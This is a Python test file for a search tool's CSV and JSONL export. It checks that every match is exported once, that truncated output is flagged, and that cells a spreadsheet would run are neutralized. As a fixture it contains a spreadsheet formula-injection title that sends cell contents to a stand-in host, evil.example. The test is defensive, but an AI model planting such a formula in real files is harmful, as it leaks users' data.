"""Export of every match: a generated 5,000-paragraph corpus, through the CLI and the API."""

from __future__ import annotations

import csv
import io
import json
import subprocess

import pytest
from helpers import FakeEncoder, write
from web_fixtures import build_fake_index, fake_model_command, make_app

from search.engine import Engine
from search.investigate.export import (
    COLUMNS,
    ExportFormat,
    csv_line,
    export_lines,
    safe_cell,
)
from search.ranking.query import Mode, Query

ARTICLES = 500
PER_ARTICLE = 10
HOSTILE_TITLE = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
WORDS = "market weather river bridge council budget railway school festival vineyard".split()


def corpus() -> tuple[list[dict], set[str]]:
    """500 articles of 10 paragraphs; every third paragraph names the harbour. Returns the
    articles and the paragraph ids that mention it."""
    articles, harbour = [], set()
    for a in range(ARTICLES):
        paragraphs = []
        for p in range(PER_ARTICLE):
            words = " ".join(WORDS[(a + p + k) % len(WORDS)] for k in range(6))
            if (a * PER_ARTICLE + p) % 3 == 0:
                paragraphs.append(f"Paragraph {p} of story {a}: the harbour {words} today.")
                harbour.add(f"feed.jsonl#s{a}:{p}")
            else:
                paragraphs.append(f"Paragraph {p} of story {a}: the town {words} today.")
        title = HOSTILE_TITLE if a == 0 else f"Story {a}"
        articles.append({"id": f"s{a}", "title": title, "lang": "en",
                         "date": f"2024-{a % 12 + 1:02d}-{a % 28 + 1:02d}",
                         "text": "\n\n".join(paragraphs)})
    return articles, harbour


@pytest.fixture(scope="module")
def generated(tmp_path_factory):
    root = tmp_path_factory.mktemp("export")
    articles, harbour = corpus()
    write(root / "seeds" / "feed.jsonl", "\n".join(json.dumps(a) for a in articles))
    encoder = FakeEncoder()
    build_fake_index(root / "seeds", root / "idx", encoder)
    return root / "idx", encoder, harbour


def parse(text: str) -> list[dict[str, str]]:
    assert text.startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(text.lstrip("\ufeff"))))


def test_cli_exports_every_match_once_as_csv(generated):
    index, _, harbour = generated
    run = subprocess.run(fake_model_command("query", "harbour", "--mode", "keyword", "--index",
                                            index, "--format", "csv", "--all"),
                         capture_output=True, check=True)
    rows = parse(run.stdout.decode("utf-8"))
    assert list(rows[0]) == list(COLUMNS)
    ids = [row["paragraph_id"] for row in rows]
    assert len(ids) == len(set(ids)) == len(harbour) and set(ids) == harbour
    assert all(row["why"] == "harbour: typed (harbour)" for row in rows)
    hostile = {row["title"] for row in rows if row["article_id"] == "feed.jsonl#s0"}
    assert hostile == {"'" + HOSTILE_TITLE}
    assert run.stderr == b""  # not cut


def test_api_streams_jsonl_and_says_when_it_was_cut(generated, monkeypatch):
    index, encoder, harbour = generated
    app = make_app(index, encoder, LOAD_MODEL=False, FOLLOW_INTERVAL=0)
    try:
        client = app.test_client()
        answer = client.get("/api/search?q=harbour&mode=keyword&format=jsonl")
        assert answer.mimetype == "application/x-ndjson"
        lines = [json.loads(line) for line in answer.get_data(as_text=True).splitlines()]
        assert {line["paragraph_id"] for line in lines} == harbour
        assert answer.headers["X-Matches-Cut"] == "false"
        monkeypatch.setattr("web.export.EXPORT_LIMIT", 100)
        cut = client.get("/api/search?q=harbour&mode=keyword&format=csv")
        rows = parse(cut.get_data(as_text=True))
        assert len(rows) == 101 and rows[-1]["paragraph_id"] == "#cut"
        assert "cut at 100 rows" in rows[-1]["snippet"]
        assert client.get("/api/search?q=harbour&format=xml").status_code == 400
    finally:
        app.extensions["search"].close()


def test_an_export_releases_its_generation_read_or_not(generated):
    index, encoder, _ = generated
    with Engine(index, encoder_factory=lambda model: encoder).open() as engine:
        with engine.matches(Query("harbour", mode=Mode.KEYWORD), 10) as matching:
            assert matching.count == 10 and matching.cut
        holder = engine._holder
        assert holder is not None and holder.users == 0
        lines = list(export_lines(engine.matches(Query("harbour", mode=Mode.KEYWORD), 5),
                                  ExportFormat.JSONL, 5))
        assert len(lines) == 6 and json.loads(lines[-1])["cut"] is True
        assert holder.users == 0


@pytest.mark.parametrize(("value", "cell"), [
    ("=1+1", "'=1+1"), ("+49 30", "'+49 30"), ("-5", "'-5"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\tx", "'\tx"), ("\rx", "'\rx"), ("plain", "plain"), (None, ""), (0.5, "0.5"),
])
def test_cells_that_a_spreadsheet_would_run_are_neutralized(value, cell):
    assert safe_cell(value) == cell


def test_csv_lines_quote_every_field():
    assert csv_line(["a", 'say "hi"', "x,y"]) == '"a","say ""hi""","x,y"\r\n'
